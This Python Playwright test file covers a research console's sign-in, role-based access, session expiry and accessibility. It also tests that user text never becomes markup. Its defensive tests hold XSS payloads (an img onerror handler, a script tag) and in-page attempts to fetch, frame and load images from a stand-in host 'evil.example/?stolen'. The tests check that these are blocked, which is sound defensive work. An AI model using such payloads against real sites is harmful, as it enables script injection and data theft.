"""Signing in and out of the console, what each role sees, and that nothing that people write becomes markup:
test_console_access.py, with ATTUNE_PROGRAMS naming the folder of the built programs."""

import json
import time
import unittest

import browser
from console_station import ConsoleStation, programs

SIZES = ["phone", "desktop", "wall"]
PASSWORD = "tram number seven"
# What somebody may write where others read it.
EVIL = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script><b id=evil>x</b>'
# Room for all of it: a study's and a participant's name have rules of their own.
EVIL_NAME = "<b id=evil>x"


STATION = None
BROWSER = None


def setUpModule():
    """One station and one browser for all: the first class finds it without a session."""
    global STATION, BROWSER
    BROWSER = browser.Browser()
    unittest.addModuleCleanup(BROWSER.close)
    STATION = unittest.enterModuleContext(ConsoleStation(programs()))
    STATION.start()
    STATION.serve_console()


class ConsoleTest(unittest.TestCase):
    @property
    def station(self):
        return STATION

    @property
    def browser(self):
        return BROWSER

    def look(self, page, name, accessible=True):
        """Keeps a picture and checks accessibility."""
        page.wait_for_timeout(100)
        browser.picture(page, f"console-{name}")
        if accessible:
            self.assertEqual(browser.accessibility_problems(page), [], name)

    def assertFits(self, page):
        """Nothing is wider than the window."""
        wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        self.assertLessEqual(wide, 0)

    def hurry(self, page):
        """Has the page ask for the station's state now rather than in some seconds."""
        # The answer may come before the page leaves because of it.
        page.evaluate("void setTimeout(() => document.dispatchEvent(new Event('visibilitychange')))")


class SigningIn(ConsoleTest):
    @classmethod
    def setUpClass(cls):
        for name, roles in [("rosa", "researcher"), ("otto", "operator"), ("elsa", "expert")]:
            STATION.console_command("user", "add", name, "--roles", roles, password=PASSWORD)

    def sign_in(self, page, name, password=PASSWORD, path="/"):
        page.goto(self.station.address + path)
        page.fill("#name", name)
        page.fill("#password", password)
        page.press("#password", "Enter")

    def test_password(self):
        for size in SIZES:
            with self.subTest(size), self.browser.context(size) as context:
                page = browser.new_page(context)
                page.goto(self.station.address + "/?find=p1")
                self.assertIn("/sign-in?from=", page.url)
                self.look(page, f"sign-in-{size}", accessible=size != "wall")
                self.assertFits(page)
                self.assertEqual(page.complaints, [])
                page.fill("#name", "rosa")
                page.fill("#password", PASSWORD)
                page.press("#password", "Enter")
                # Where one wanted to go, and signed in under one's name.
                page.wait_for_url("**/?find=p1")
                page.wait_for_selector(".who >> text=rosa")
                self.assertEqual(page.locator(".site-nav a").all_inner_texts(), ["Sessions", "Dashboard", "Review"])
                self.assertEqual(page.locator(".site-nav a[aria-current=page]").all_inner_texts(), ["Sessions"])
                page.click("text=Sign out")
                page.wait_for_url("**/sign-in?out")
                self.assertIn("You are signed out", page.inner_text("main"))
                # Not by going back either.
                page.go_back()
                page.wait_for_selector("#name")
                self.assertEqual(context.cookies(), [])

    def test_without_scripts(self):
        with self.browser.context(java_script_enabled=False) as context:
            page = browser.new_page(context)
            self.sign_in(page, "elsa", "not this one", "/review")
            page.wait_for_selector("#problem")
            self.assertEqual(page.input_value("#name"), "elsa")
            self.assertIn("not right", page.inner_text("#problem"))
            page.fill("#password", PASSWORD)
            page.press("#password", "Enter")
            page.wait_for_url("**/review")

    def test_wrong_password(self):
        with self.browser.context() as context:
            page = browser.new_page(context)
            self.sign_in(page, "nobody", "not this one")
            page.wait_for_selector("#problem")
            self.look(page, "sign-in-wrong")

    def test_link(self):
        link = self.station.console_link("operator,researcher,expert")
        with self.browser.context() as context:
            page = browser.new_page(context)
            page.goto(link)
            page.goto(link)
            self.look(page, "link")
            page.click("button")
            page.wait_for_selector(".who >> text=operator-researcher-expert")
            # The browser that it let in is led on; it lets in no other.
            page.goto(link)
            page.wait_for_selector(".who >> text=operator-researcher-expert")
            self.assertNotIn("token", page.url)
            with self.browser.context() as other:
                strange = browser.new_page(other)
                strange.goto(link)
                self.assertIn("used already", strange.inner_text("main"))
                self.look(strange, "link-used")

    def test_from_another_site(self):
        """The strict cookie does not come along from elsewhere; whoever is signed in goes on all the same."""
        with self.browser.context() as context:
            page = self.station.page(context)
            page.wait_for_selector(".who")
            elsewhere = self.station.address.replace("127.0.0.1", "localhost")
            page.route(f"{elsewhere}/elsewhere", lambda route: route.fulfill(
                body=f"<a href='{self.station.address}/?find=x'>go</a>", content_type="text/html"))
            page.goto(f"{elsewhere}/elsewhere")
            page.click("a")
            page.wait_for_url("**/?find=x")
            page.wait_for_selector(".who")

    def test_roles(self):
        ways = {"otto": ["Sessions", "Dashboard"], "rosa": ["Sessions", "Dashboard", "Review"]}
        for name, way in ways.items():
            with self.subTest(name), self.browser.context() as context:
                page = browser.new_page(context)
                self.sign_in(page, name)
                page.wait_for_selector(".site-nav a")
                self.assertEqual(page.locator(".site-nav a").all_inner_texts(), way)
                page.wait_for_selector(".site-state[data-state=idle] >> text=Idle")
                self.look(page, f"home-{name}", accessible=name == "otto")
        with self.browser.context() as context:
            page = browser.new_page(context)
            self.sign_in(page, "elsa")
            page.wait_for_url("**/review")
            for path in ["/dashboard", "/sessions/x", "/figures/x", "/reviews/x", "/export/x"]:
                answer = page.goto(self.station.address + path)
                self.assertEqual(answer.status, 403)
            self.assertIn("not for your account", page.inner_text("h1"))
            self.look(page, "not-for-you")

    def test_a_session_that_is_over(self):
        with self.browser.context() as context:
            page = self.station.page(context, "/", "uwe:researcher")
            page.wait_for_selector(".who >> text=uwe")
            # Elsewhere, with the same cookie.
            csrf = self.station.get("/api/me", "uwe:researcher")["csrf"]
            status, _, _ = self.station.request(
                "POST", "/sign-out", f"csrf={csrf}", {
                    "cookie": self.station.cookie("uwe:researcher"), "content-type": "application/x-www-form-urlencoded"})
            self.assertEqual(status, 303)
            # The page notices, without being asked.
            self.hurry(page)
            page.wait_for_url("**/sign-in?from=%2F", timeout=15_000)
            self.station._cookies.clear()

    def test_a_stream_ends_with_its_session(self):
        role = "ute:operator,researcher"
        with self.browser.context() as context:
            page = self.station.page(context, "/", role)
            page.wait_for_selector(".who")
            if page.evaluate("fetch('/api/dashboard/stream').then((answer) => answer.status)") != 200:
                self.skipTest("there is no stream")
            page.evaluate("""() => {
                window.lost = false;
                fetch('/api/dashboard/stream').then(async (answer) => {
                    const reader = answer.body.getReader();
                    try { while (!(await reader.read()).done); } finally { window.lost = true; }
                }); }""")
            csrf = self.station.get("/api/me", role)["csrf"]
            self.station.request("POST", "/sign-out", f"csrf={csrf}", {
                "cookie": self.station.cookie(role), "content-type": "application/x-www-form-urlencoded"})
            self.station._cookies.clear()
            page.wait_for_url("**/sign-in?from=**", timeout=15_000)


class Home(ConsoleTest):
    def test_sessions(self):
        with self.browser.context() as context:
            page = self.station.page(context)
            page.wait_for_selector(".empty")
            self.assertIn("no sessions yet", page.inner_text("main"))
            self.look(page, "home-empty")
        done = self.station.session("p1")
        self.station.stop_session(done)
        with self.browser.context() as context:
            page = self.station.page(context)
            page.wait_for_selector(f"tr[data-session='{done}']")
            # One begins: the page tells without being loaded again.
            running = self.station.session("p2")
            self.hurry(page)
            page.wait_for_selector(f"article[data-session='{running}']", timeout=15_000)
            page.wait_for_selector(".site-state[data-state=ok] >> text=Recording")
            before = page.inner_text(".clock")
            page.wait_for_function("before => document.querySelector('.clock').textContent !== before", arg=before)
            self.assertEqual(page.get_attribute(f"tr[data-session='{done}'] th a", "href"), f"/sessions/{done}")
            # Filters, kept in the address.
            page.fill("#filter-find", "P1")
            page.wait_for_selector("text=1 of 2 sessions")
            self.assertEqual(page.locator("tbody tr").count(), 1)
            self.assertIn("find=P1", page.url)
            page.reload()
            page.wait_for_selector("text=1 of 2 sessions")
            self.assertEqual(page.input_value("#filter-find"), "P1")
            page.fill("#filter-find", "nobody")
            page.wait_for_selector(".empty")
            page.click("text=Show all")
            page.wait_for_selector("text=2 sessions")
            page.select_option("#filter-state", "recording")
            page.wait_for_selector("text=1 of 2 sessions")
            self.assertIn("Recording", page.inner_text("tbody tr"))
            self.assertEqual(page.complaints, [])
        for size in SIZES:
            for scheme in ["light", "dark"]:
                with self.subTest(f"{size} {scheme}"), self.browser.context(size, color_scheme=scheme) as context:
                    page = self.station.page(context)
                    page.wait_for_selector("tbody tr")
                    self.look(page, f"home-{size}-{scheme}", accessible=size != "wall")
                    self.assertFits(page)
        for options in [{"forced_colors": "active"}, {"contrast": "more"}, {"reduced_motion": "reduce"}]:
            with self.subTest(str(options)), self.browser.context(**options) as context:
                page = self.station.page(context)
                page.wait_for_selector("tbody tr")
                self.look(page, f"home-{'-'.join(next(iter(options.items())))}", accessible="contrast" in options)
        self.station.stop_session(running)

    def test_keyboard(self):
        with self.browser.context() as context:
            page = self.station.page(context)
            page.wait_for_selector("h1")
            page.keyboard.press("Tab")
            self.assertEqual(page.evaluate("document.activeElement.className"), "skip")
            page.keyboard.press("Enter")
            self.assertEqual(page.evaluate("document.activeElement.id"), "main")

    def test_the_daemon_is_away(self):
        with self.browser.context() as context:
            page = self.station.page(context)
            page.wait_for_selector(".site-state >> text=Idle")
            self.station.stop()
            self.hurry(page)
            try:
                page.wait_for_selector(".site-state[data-state=bad] >> text=Daemon away", timeout=15_000)
            finally:
                self.station.start()
            self.hurry(page)
            page.wait_for_selector(".site-state >> text=Idle", timeout=15_000)


class Markup(ConsoleTest):
    """What comes from people and devices is shown as text, and would not run if it were not."""

    def assertNoMarkup(self, page):
        page.wait_for_timeout(300)
        self.assertIsNone(page.evaluate("window.hacked ?? null"))
        self.assertEqual(page.locator("#evil, img[src=x]").count(), 0)

    def test_what_is_stored_stays_text(self):
        """Through the answers of the server, since names have rules at every way in."""
        session = {"id": "0" * 32, "study": EVIL, "participant": EVIL, "kind": EVIL, "state": EVIL, "outcome": EVIL,
                   "started_utc_ns": time.time_ns(), "duration_s": 61, "pilot": True, "file": EVIL, "has_review": False}
        with self.browser.context() as context:
            page = browser.new_page(context)
            page.route("**/api/sessions", lambda route: route.fulfill(json={"sessions": [
                session, session | {"id": "1" * 32, "state": "recording"}]}))
            page.route("**/api/station", lambda route: route.fulfill(
                json={"state": "warn", "text": EVIL, "recording": 1, "alarms": 1}))
            self.station.sign_in(context)
            page.goto(self.station.address)
            page.wait_for_selector("tbody tr")
            self.assertIn(EVIL, page.inner_text("tbody tr"))
            page.wait_for_function("document.querySelector('.site-state').textContent.includes('<img')")
            self.assertNoMarkup(page)

    def test_what_is_said_and_what_devices_are_called(self):
        """A chat's text, marks, notes, a session's participant: through the real programs, on all pages."""
        session = self.station.session("evil-1")
        for label in [EVIL_NAME, "mark"]:
            self.station.attune("session", "mark", label, "--session", session, "--note", EVIL, check=False)
        self.station.stop_session(session)
        with self.browser.context() as context:
            self.station.sign_in(context, "operator,researcher")
            page = browser.new_page(context)
            for path in ["/", f"/sessions/{session}", "/dashboard", "/figures/browser", "/reviews/browser", "/export/browser", "/review",
                         f"/?find={EVIL}", f"/sessions/{EVIL_NAME}", f"/figures/{EVIL_NAME}"]:
                page.goto(self.station.address + path)
                page.wait_for_selector("main > *")
                self.assertNoMarkup(page)

    def test_the_policy_blocks_what_gets_through(self):
        with self.browser.context() as context:
            page = self.station.page(context)
            page.wait_for_selector("h1")
            # Playwright's own scripts run outside the page's policy: these run in it.
            outcome = page.evaluate("""async () => {
                const blocked = [];
                document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
                const attempt = (name, body) => { try { body(); return `${name}: done`; } catch (error) { return `${name}: ${error.name}`; } };
                const box = document.createElement('div');
                document.body.append(box);
                const tried = [
                    attempt('innerHTML', () => { box.innerHTML = '<img src=x onerror="window.hacked=1">'; }),
                    attempt('setAttribute', () => { box.setAttribute('onclick', 'window.hacked=1'); box.click(); }),
                    attempt('script', () => { const script = document.createElement('script'); script.textContent = 'window.hacked=1'; box.append(script); }),
                    attempt('image', () => { const image = new Image(); image.src = 'https://evil.example/x.png'; box.append(image); }),
                    attempt('frame', () => { const frame = document.createElement('iframe'); frame.src = 'https://evil.example/'; box.append(frame); }),
                ];
                await fetch('https://evil.example/?stolen').catch(() => tried.push('fetch: refused'));
                await new Promise((resolve) => setTimeout(resolve, 300));
                return { tried, blocked, hacked: window.hacked ?? null };
            }""")
            self.assertIsNone(outcome["hacked"], outcome)
            self.assertIn("innerHTML: TypeError", outcome["tried"])
            self.assertIn("fetch: refused", outcome["tried"])
            for directive in ["require-trusted-types-for", "img-src", "frame-src", "connect-src"]:
                self.assertIn(directive, outcome["blocked"], json.dumps(outcome))

    def test_no_other_site_frames_or_reads_it(self):
        with self.browser.context() as context:
            self.station.sign_in(context)
            page = context.new_page()
            page.route("http://evil.example/", lambda route: route.fulfill(
                content_type="text/html", body=f"<iframe src='{self.station.address}/sign-in'></iframe>"))
            page.goto("http://evil.example/")
            page.wait_for_timeout(500)
            framed = [frame.evaluate("document.body?.innerText ?? ''") for frame in page.frames[1:]]
            self.assertNotIn("Sign in", "".join(framed))
            read = page.evaluate("""address => fetch(address + '/api/me', {credentials: 'include', mode: 'no-cors'})
                .then((answer) => answer.text(), (error) => error.name)""", self.station.address)
            self.assertNotIn("researcher", read)


if __name__ == "__main__":
    unittest.main()
